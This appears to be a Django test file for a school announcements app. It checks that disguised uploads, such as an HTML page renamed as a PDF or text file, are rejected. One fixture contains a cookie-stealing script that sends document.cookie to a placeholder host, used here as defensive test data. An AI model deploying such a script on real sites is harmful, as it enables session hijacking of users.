"""An attachment must be what its name says: a web page renamed notice.pdf is refused."""

from django.core.files.uploadedfile import SimpleUploadedFile

from announcements.models import Announcement, Attachment

PAGE = b"<!DOCTYPE html><html><body><script>document.location='https://x.invalid/'+document.cookie</script></body></html>"


def _publish_with(client, personas, *uploads):
    return client.post(
        "/thong-bao/viet/",
        {
            "title": "Lịch họp phụ huynh cuối kỳ",
            "body": "<p>Kính mời quý phụ huynh dự họp.</p>",
            "audiences": [f"class:{personas.class_5a.pk}:parent"],
            "priority": "normal",
            "files": list(uploads),
        },
    )


def test_a_web_page_named_pdf_is_refused_and_the_form_kept(personas, client_for, private_files):
    upload = SimpleUploadedFile("notice.pdf", PAGE, "application/pdf")

    response = _publish_with(client_for("teacher_5a"), personas, upload)

    assert response.status_code == 200
    assert (
        "Tệp “notice.pdf”: Nội dung tệp không khớp với đuôi .pdf; tệp có thể bị đổi tên."
        in response.text
    )
    assert "Lịch họp phụ huynh cuối kỳ" in response.text
    assert "Kính mời quý phụ huynh dự họp." in response.text
    assert not Announcement.objects.exists()
    assert not Attachment.objects.exists()
    assert not private_files.exists() or not any(private_files.rglob("*.pdf"))


def test_a_page_named_txt_is_refused_but_plain_text_is_kept(personas, client_for):
    teacher = client_for("teacher_5a")
    page = SimpleUploadedFile("danh-sach.txt", b"\n  <html><body>x</body></html>", "text/plain")
    assert "Tệp “danh-sach.txt”" in _publish_with(teacher, personas, page).text
    assert not Announcement.objects.exists()

    text = "Danh sách học sinh đi dã ngoại: An, Bình".encode()
    plain = SimpleUploadedFile("danh-sach.txt", text, "text/html")
    assert _publish_with(teacher, personas, plain).status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.content_type == "text/plain"  # from the content, not the browser's claim


def test_a_real_pdf_with_a_real_office_file_are_published(personas, client_for):
    pdf = SimpleUploadedFile("giay-moi.pdf", b"%PDF-1.7\n...", "application/pdf")
    sheet = SimpleUploadedFile("danh-sach.xlsx", b"PK\x03\x04 a workbook", "application/zip")
    assert _publish_with(client_for("teacher_5a"), personas, pdf, sheet).status_code == 302
    assert sorted(Announcement.objects.get().attachments.values_list("name", flat=True)) == [
        "danh-sach.xlsx",
        "giay-moi.pdf",
    ]
